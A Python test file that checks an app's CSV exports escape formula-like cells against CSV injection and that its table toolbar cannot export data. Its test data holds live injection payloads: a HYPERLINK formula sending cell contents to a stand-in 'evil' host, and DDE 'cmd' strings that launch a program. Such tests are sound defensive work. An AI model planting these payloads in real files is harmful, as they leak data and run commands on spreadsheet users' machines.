"""Every CSV the app produces neutralises formula-like cells (OWASP CSV injection; issue 11, case 6)."""
from __future__ import annotations

import csv
import io
import tomllib

import pyarrow as pa

from lifecycle import config, exports

HOSTILE = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "-2+3", "＝1+1", "plain", "a=b"]


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def test_formula_like_text_cells_and_names_leave_as_text():
    table = pa.table({"=name": HOSTILE, "n": list(range(-4, len(HOSTILE) - 4)),
                      "x": [-1.5] * len(HOSTILE)})
    header, *rows = _read(exports.csv_bytes(table))
    assert header == ["'=name", "n", "x"]
    cells = [row[0] for row in rows]
    for raw, written in zip(HOSTILE, cells):
        if raw in ("plain", "a=b"):
            assert written == raw
        else:
            assert written == "'" + raw, (raw, written)
    assert [row[1] for row in rows][:2] == ["-4", "-3"]  # numbers stay numbers, minus sign and all
    assert rows[0][2] == "-1.5"


def test_missing_values_stay_empty():
    header, *rows = _read(exports.csv_bytes(pa.table({"s": ["=1", None]})))
    assert rows == [["'=1"], [""]]


def test_the_table_toolbar_cannot_export_user_data():
    settings = tomllib.loads((config.REPO_ROOT / ".streamlit" / "config.toml").read_text())
    assert settings["client"]["disableDataExport"] is True
